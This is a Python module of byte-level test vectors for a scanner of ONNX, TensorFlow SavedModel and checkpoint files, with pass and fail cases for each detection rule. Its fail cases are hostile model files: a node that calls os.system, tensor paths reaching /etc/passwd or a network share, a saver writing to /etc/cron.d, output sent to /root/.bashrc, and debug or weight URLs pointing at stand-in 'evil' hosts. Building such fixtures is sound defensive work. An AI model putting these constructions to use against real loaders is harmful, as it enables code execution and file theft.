"""Vectors of formats that hold computation graphs, written byte by byte: each is a smallest file with one change."""

from __future__ import annotations

from vector import Vector


def varint(value: int) -> bytes:
    """Return a number as protobuf writes it."""
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def number(field: int, value: int) -> bytes:
    """Return a field that is a number."""
    return varint(field << 3) + varint(value)


def data(field: int, *parts: bytes | str) -> bytes:
    """Return a field that is bytes, a text or a message made of parts."""
    inner = b"".join(part.encode() if isinstance(part, str) else part for part in parts)
    return varint(field << 3 | 2) + varint(len(inner)) + inner


# --- ONNX -------------------------------------------------------------------------------------------------------------


def onnx_node(name: str = "Relu", domain: str = "", *rest: bytes) -> bytes:
    """Return a NodeProto of a graph."""
    return data(1, data(1, "x"), data(2, "y"), data(4, name), data(7, domain) if domain else b"", *rest)


def onnx_tensor(*entries: tuple[str, str], location: int = 1) -> bytes:
    """Return an initializer whose bytes are elsewhere."""
    listed = b"".join(data(13, data(1, key), data(2, value)) for key, value in entries)
    return data(5, number(1, 1), number(2, 1), data(8, "w"), listed, number(14, location))


def onnx(*graph: bytes, before: bytes = number(1, 8), after: bytes = b"") -> bytes:
    """Return a model around the parts of a graph."""
    io = data(11, data(1, "x"), data(2, b"")) + data(12, data(1, "y"), data(2, b""))
    return before + data(8, data(1, ""), number(2, 17)) + data(7, *graph, data(2, "g"), io) + after


def onnx_attribute(name: str, *value: bytes) -> bytes:
    """Return an attribute of a node."""
    return data(5, data(1, name), *value)


def endless(depth: int) -> bytes:
    """Return a node with a graph in an attribute, whose node has one, and so on."""
    node = onnx_node()
    for _ in range(depth):
        node = onnx_node("If", "", onnx_attribute("then_branch", data(6, node, data(2, "t"))))
    return node


RELU = onnx_node()
IN_BRANCH = onnx_node("If", "", onnx_attribute("then_branch", data(6, onnx_node("Run", "evil"), data(2, "t"))))
FUNCTION = data(25, data(1, "Mine"), data(7, data(1, "x"), data(2, "y"), data(4, "Relu")), data(10, "my.domain"))
PYTHON = onnx_node(
    "PyOp",
    "pyop",
    onnx_attribute("module", data(4, "os"), number(20, 3)),
    onnx_attribute("class_name", data(4, "system"), number(20, 3)),
)
CONTEXT = onnx_node(
    "EPContext",
    "com.microsoft",
    onnx_attribute("embed_mode", number(3, 0), number(20, 2)),
    onnx_attribute("ep_cache_context", data(4, "../../x.bin"), number(20, 3)),
)
ONNX_FORMATS = (
    Vector("onnx", "node", onnx(RELU), "the smallest model"),
    Vector("onnx", "graph-first", onnx(RELU, before=b"", after=number(1, 8)), "the version behind the graph"),
    Vector("onnx", "external", onnx(RELU, onnx_tensor(("location", "w.bin"))), "bytes in a file beside it"),
    Vector("onnx", "function", onnx(onnx_node("Mine", "my.domain"), after=FUNCTION), "an operator of its own"),
    Vector("onnx", "cut", onnx(RELU)[:-3], "cut short", (), "are left"),
    Vector("onnx", "unknown-field", onnx(RELU, after=data(99, "?")), "a field of no schema", (), "field 99"),
    Vector("onnx", "wrong-type", onnx(RELU, after=number(2, 1)), "a text that is a number", (), "field 2 of a Mo"),
    Vector("onnx", "open-group", onnx(RELU, after=b"\xfb\x06"), "a group without end", (), "group without end"),
    Vector(
        "onnx", "endless-number", onnx(RELU, after=b"\x08" + b"\x80" * 11), "a number of 77 bits", (), "without end"
    ),
    Vector("onnx", "field-zero", onnx(RELU, after=b"\x00\x00"), "a field without a number", (), "a field of number 0"),
)
SPARSE_VALUES = onnx_tensor(("location", "../../etc/passwd"))[2:]
ONNX_RULES = {
    "graph-runs-code": {
        "fail": {"onnx-python.onnx": onnx(PYTHON)},
        "pass": {"onnx-node.onnx": onnx(RELU)},
    },
    "graph-reaches-outside": {
        "fail": {
            "onnx-up.onnx": onnx(RELU, onnx_tensor(("location", "../../etc/passwd"))),
            "onnx-absolute.onnx": onnx(RELU, onnx_tensor(("location", "/etc/passwd"))),
            "onnx-in-sparse-tensor.onnx": number(1, 8) + data(7, data(2, "g"), data(15, data(1, SPARSE_VALUES))),
            "onnx-memory.onnx": onnx(RELU, onnx_tensor(("location", "*/_ORT_MEM_ADDR_/*"))),
            "onnx-drive.onnx": onnx(RELU, onnx_tensor(("location", "C:secret.bin"))),
            "onnx-address.onnx": onnx(RELU, onnx_tensor(("location", "http://evil.example/w"))),
            "onnx-basepath.onnx": onnx(RELU, onnx_tensor(("location", "w"), ("basepath", "/etc"))),
            "onnx-share.onnx": onnx(RELU, onnx_tensor(("location", "\\\\evil.example"))[:]),
            "onnx-not-marked.onnx": onnx(RELU, onnx_tensor(("location", "/etc/passwd"), location=0)),
            "onnx-in-attribute.onnx": onnx(
                onnx_node("Constant", "", onnx_attribute("value", data(5, onnx_tensor(("location", "/x"))[2:])))
            ),
            "onnx-context.onnx": onnx(CONTEXT),
        },
        "pass": {
            "onnx-beside.onnx": onnx(RELU, onnx_tensor(("location", "w.bin"), ("offset", "4096"), ("length", "4"))),
            "onnx-two-dots-in-name.onnx": onnx(RELU, onnx_tensor(("location", "w..bin"))),
        },
    },
    "graph-unknown-operator": {
        "fail": {
            "onnx-domain.onnx": onnx(onnx_node("Run", "evil")),
            "onnx-in-branch.onnx": onnx(IN_BRANCH),
            "onnx-in-training.onnx": onnx(RELU, after=data(20, data(2, onnx_node("Run", "evil")))),
        },
        "pass": {
            "onnx-function.onnx": onnx(onnx_node("Mine", "my.domain"), after=FUNCTION),
            "onnx-microsoft.onnx": onnx(onnx_node("FusedConv", "com.microsoft")),
        },
    },
    "graph-odd-entry": {
        "fail": {
            "onnx-key.onnx": onnx(RELU, onnx_tensor(("location", "w"), ("__class__", "x"))),
            "onnx-negative.onnx": onnx(RELU, onnx_tensor(("location", "w"), ("offset", "-1"))),
            "onnx-nowhere.onnx": onnx(RELU, onnx_tensor()),
            "onnx-beyond-every-file.onnx": onnx(
                RELU, onnx_tensor(("location", "w"), ("offset", str(1 << 62)), ("length", "4"))
            ),
            "onnx-branches-without-end.onnx": onnx(endless(60)),
            "onnx-backslash.onnx": onnx(RELU, onnx_tensor(("location", "a\\b"))),
        },
        "pass": {"onnx-checksum.onnx": onnx(RELU, onnx_tensor(("location", "w"), ("checksum", "00")))},
    },
}

# --- TensorFlow -------------------------------------------------------------------------------------------------------


def tf_node(name: str, operator: str, *inputs: str, rest: bytes = b"") -> bytes:
    """Return a NodeDef of a graph."""
    return data(1, data(1, name), data(2, operator), *(data(3, one) for one in inputs), rest)


def tf_value(key: str, *value: bytes) -> bytes:
    """Return an attribute of a node."""
    return data(5, data(1, key), data(2, *value))


def tf_text(name: str, *texts: str) -> bytes:
    """Return a constant of texts."""
    tensor = number(1, 7) + data(2) + b"".join(data(8, text) for text in texts)
    return tf_node(name, "Const", rest=tf_value("dtype", number(6, 7)) + tf_value("value", data(8, tensor)))


def tf_packed_text(name: str, text: str) -> bytes:
    """Return a constant of one text as TensorFlow's optimizer writes it: its length, and the text."""
    tensor = number(1, 7) + data(2) + data(4, varint(len(text)), text)
    return tf_node(name, "Const", rest=tf_value("dtype", number(6, 7)) + tf_value("value", data(8, tensor)))


def tf_function(name: str, argument: str, *nodes: bytes) -> bytes:
    """Return a function with one argument; nodes of functions are field 3."""
    signature = data(1, data(1, name), data(2, data(1, argument), number(3, 7)))
    return data(1, signature, *(b"\x1a" + node[1:] for node in nodes))


def tf_meta(*graph: bytes, rest: bytes = b"") -> bytes:
    """Return a MetaGraphDef."""
    return data(1, data(4, "serve"), data(5, "2.21.0")) + data(2, *graph) + rest


def tf_saved(*graph: bytes, rest: bytes = b"", after: bytes = b"") -> bytes:
    """Return a SavedModel."""
    return number(1, 1) + data(2, tf_meta(*graph, rest=rest)) + after


def tf_asset(tensor: str, name: str) -> bytes:
    """Return an AssetFileDef of a meta graph."""
    return data(6, data(1, data(1, tensor)), data(2, name))


def tf_saver(path: bytes) -> bytes:
    """Return the graph of a saver as TensorFlow writes it, around what gives its path."""
    save = tf_function(
        "__inference__traced_save_1",
        "file_prefix",
        tf_text("Const", ".part"),
        tf_text("Const_1", "_temp/part"),
        tf_node("Select", "Select", "Match:output:0", "Const:output:0", "Const_1:output:0"),
        tf_node("Match", "StaticRegexFullMatch", "file_prefix"),
        tf_node("StringJoin", "StringJoin", "file_prefix", "Select:output:0"),
        tf_node("ShardedFilename", "ShardedFilename", "StringJoin:output:0"),
        tf_node("SaveV2", "SaveV2", "ShardedFilename:filename:0"),
        tf_node("MergeV2Checkpoints", "MergeV2Checkpoints", "ShardedFilename:filename:0", "file_prefix"),
    )
    called = tf_value("f", data(10, data(1, "__inference__traced_save_1")))
    return path + tf_node("call", "StatefulPartitionedCall", "path", rest=called) + data(2, save)


IDENTITY = tf_node("x", "Placeholder") + tf_node("y", "Identity", "x")
LOOKUP = tf_node("init", "InitializeTableFromTextFileV2", "table", "path")
TF_FORMATS = (
    Vector("saved_model", "identity", tf_saved(IDENTITY), "the smallest SavedModel"),
    Vector("saved_model", "meta-first", data(2, tf_meta(IDENTITY)) + number(1, 1), "the version behind the graph"),
    Vector("saved_model", "saver", tf_saved(tf_saver(tf_node("path", "Placeholder"))), "a saver as it is written"),
    Vector("saved_model", "cut", tf_saved(IDENTITY)[:-2], "cut short", (), "are left"),
    Vector(
        "saved_model", "unknown-field", tf_saved(IDENTITY, after=data(9, "?")), "no such field", (), "field 9 of a S"
    ),
    Vector("saved_model", "deep", tf_saved(IDENTITY, rest=data(3, "x") + data(9, "x")), "no such field", (), "field 9"),
)
# A constant as text, broken by a comment where the text form lets it be.
TEXT_PATH = b"""node { name: "p" op: "Const" attr < key: "value" value { tensor {
  dtype: DT_STRING tensor_shape { } string_val: "\\x2fetc" # a comment
  '%s' } } > }
"""
TF_RULES = {
    "graph-runs-code": {
        "fail": {
            "tensorflow-py-func.pb": tf_saved(tf_node("run", "PyFunc")),
            "tensorflow-in-function.pb": tf_saved(data(2, tf_function("f", "x", tf_node("run", "EagerPyFunc", "x")))),
            "tensorflow-frozen.pb": IDENTITY + tf_node("run", "PyFuncStateless"),
            "tensorflow-meta.meta": tf_meta(tf_node("run", "PyFunc")),
            "tensorflow-commented.pbtxt": b'node {\n  name: "a"\n  op # x\n : # "y"\n "Py" # z\n \'Func\'\n}\n',
            "tensorflow-behind.pbtxt": b'versions { producer: 1 } node { op: "PyFunc" }\n',
        },
        "pass": {
            "tensorflow-identity.pb": tf_saved(IDENTITY),
            "tensorflow-frozen.pb": IDENTITY,
            "tensorflow-restored.pbtxt": TEXT_PATH % b"" + b'node { name: "q" op: "Placeholder" }'
            b'node { name: "r" op: "RestoreV2" input: "q" }\n',
            "tensorflow-commented.pbtxt": b'node { name: "a" op: "Identity" } # op: "PyFunc"\n',
        },
    },
    "graph-reads-file": {
        "fail": {
            "tensorflow-read.pb": tf_saved(tf_text("p", "passwd"), tf_node("r", "ReadFile", "p")),
            "tensorflow-shadowed.pb": tf_saved(
                tf_node("r", "ReadFile", "p"), data(2, tf_function("ReadFile", "x", tf_node("y", "Identity", "x")))
            ),
            "tensorflow-match.pb": tf_saved(tf_node("r", "MatchingFiles", "p")),
        },
        "pass": {"tensorflow-restore.pb": tf_saved(tf_node("p", "Placeholder"), tf_node("r", "RestoreV2", "p"))},
    },
    "graph-writes-file": {
        "fail": {
            "tensorflow-write.pb": tf_saved(tf_text("p", "x"), tf_node("w", "WriteFile", "p", "p")),
            "tensorflow-log.pb": tf_saved(tf_node("w", "CreateSummaryFileWriter", "p")),
        },
        "pass": {"tensorflow-saver.pb": tf_saved(tf_saver(tf_node("path", "Placeholder")))},
    },
    "graph-opens-network": {
        "fail": {"tensorflow-rpc.pb": tf_saved(tf_node("r", "RpcClient", "p"))},
        "pass": {"tensorflow-identity.pb": tf_saved(IDENTITY)},
    },
    "graph-loads-graph": {
        "fail": {"tensorflow-dataset.pb": tf_saved(tf_node("d", "DatasetFromGraph", "g"))},
        "pass": {"tensorflow-range.pb": tf_saved(tf_node("d", "RangeDataset", "a", "b", "c"))},
    },
    "graph-ends-process": {
        "fail": {"tensorflow-abort.pb": tf_saved(tf_node("a", "Abort"))},
        "pass": {"tensorflow-assert.pb": tf_saved(tf_node("a", "Assert", "x"))},
    },
    "graph-reaches-outside": {
        "fail": {
            "tensorflow-save.pb": tf_saved(tf_saver(tf_text("path", "/etc/cron.d/x"))),
            "tensorflow-lookup.pbtxt": TEXT_PATH % b"/passwd" + b'node { op: "InitializeTableFromTextFileV2"'
            b' input: [ "table", "p" ] }\n',
            "tensorflow-restore.pb": tf_saved(tf_text("p", "../secret"), tf_node("r", "RestoreV2", "p")),
            "tensorflow-asset.pb": tf_saved(IDENTITY, rest=tf_asset("p:0", "../../etc/passwd")),
            "tensorflow-packed-text.pb": tf_saved(tf_packed_text("p", "/etc/passwd"), tf_node("r", "RestoreV2", "p")),
            "tensorflow-lookup.pb": tf_saved(tf_text("path", "/etc/passwd"), LOOKUP),
            "tensorflow-print.pb": tf_saved(
                tf_node("p", "PrintV2", "x", rest=tf_value("output_stream", data(2, "file:///root/.bashrc")))
            ),
            "tensorflow-debug.pb": tf_saved(
                tf_node("d", "DebugIdentity", "x", rest=tf_value("debug_urls", data(1, data(2, "grpc://evil:1"))))
            ),
        },
        "pass": {
            "tensorflow-asset.pb": tf_saved(
                tf_text("path", "/home/ada/vocab.txt"), LOOKUP, rest=tf_asset("path:0", "vocab.txt")
            ),
            "tensorflow-print.pb": tf_saved(
                tf_node("p", "PrintV2", "x", rest=tf_value("output_stream", data(2, "stderr")))
            ),
        },
    },
    "graph-unknown-operator": {
        "fail": {"tensorflow-custom.pb": tf_saved(tf_node("z", "ZipTransform", "x"))},
        "pass": {
            "tensorflow-own-function.pb": tf_saved(
                tf_node("z", "mine", "x"), data(2, tf_function("mine", "x", tf_node("y", "Identity", "x")))
            )
        },
    },
    "graph-odd-entry": {
        "fail": {
            "tensorflow-decoded.pb": tf_saved(tf_saver(tf_text("p", "L2V0Yw") + tf_node("path", "DecodeBase64", "p"))),
            "tensorflow-fixed-path.pb": tf_saved(tf_saver(tf_text("path", "start-up.sh"))),
            "tensorflow-no-path.pb": tf_saved(tf_node("c", "Const"), tf_node("s", "SaveV2", "c")),
            "tensorflow-decoded-vocabulary.pb": tf_saved(
                tf_text("p", "L2V0Yw"), tf_node("path", "DecodeBase64", "p"), LOOKUP
            ),
            "tensorflow-two-functions.pb": tf_saved(
                data(2, tf_function("f", "x"), tf_function("f", "x", tf_node("y", "Identity", "x")))
            ),
        },
        "pass": {
            "tensorflow-identity.pb": tf_saved(IDENTITY),
            "tensorflow-saver.pb": tf_saved(tf_saver(tf_node("path", "Placeholder"))),
            "tensorflow-old-saver.pb": tf_saved(tf_saver(tf_text("path", "model"))),
        },
    },
}

# --- TensorFlow's checkpoints -----------------------------------------------------------------------------------------


def ck_block(*rows: tuple[str, bytes], packed: int = 0) -> bytes:
    """Return a block of keys that share nothing, with one restart and its trailer."""
    entries = b"".join(varint(0) + varint(len(key)) + varint(len(value)) + key.encode() + value for key, value in rows)
    return entries + bytes(4) + (1).to_bytes(4, "little") + bytes([packed]) + bytes(4)


def ck_index(*rows: tuple[str, bytes], packed: int = 0) -> bytes:
    """Return a table of one block, an empty block of metadata, the index and the footer."""
    block, meta = ck_block(*rows, packed=packed), ck_block()
    index = ck_block(("z", varint(0) + varint(len(block) - 5)))
    footer = varint(len(block)) + varint(len(meta) - 5) + varint(len(block + meta)) + varint(len(index) - 5)
    return block + meta + index + footer.ljust(40, b"\x00") + bytes.fromhex("57fb808b247547db")


CK_HEAD = ("", number(1, 1) + data(3, number(1, 1)))
CK_ROW = ("v", number(1, 1) + data(2) + number(4, 0) + number(5, 8))
CK_FORMATS = (
    Vector("checkpoint", "tensor", ck_index(CK_HEAD, CK_ROW), "one tensor of eight bytes"),
    Vector("checkpoint", "no-header", ck_index(CK_ROW), "no header", (), "of which there are 0"),
    Vector("checkpoint", "no-shard", ck_index(CK_HEAD, ("v", number(3, 7))), "no such file", (), "in data file 7"),
    Vector("checkpoint", "packed", ck_index(CK_HEAD, packed=1), "a packed block", (), "that is packed"),
    Vector("checkpoint", "empty", ck_index(), "no rows", (), "without a header"),
)

FORMATS = (*ONNX_FORMATS, *TF_FORMATS, *CK_FORMATS)
READERS = {
    "checkpoint": "hauberk.formats.model.tensorflow.checkpoint",
    "onnx": "hauberk.formats.model.onnx",
    "saved_model": "hauberk.formats.model.tensorflow.saved_model",
}
RULES: dict[str, dict[str, dict[str, bytes]]] = {}


def add(rules: dict[str, dict[str, dict[str, bytes]]]) -> None:
    """Add the vectors of one format to those of each rule."""
    for rule, kinds in rules.items():
        for kind, files in kinds.items():
            RULES.setdefault(rule, {"fail": {}, "pass": {}})[kind].update(files)


add(ONNX_RULES)
add(TF_RULES)
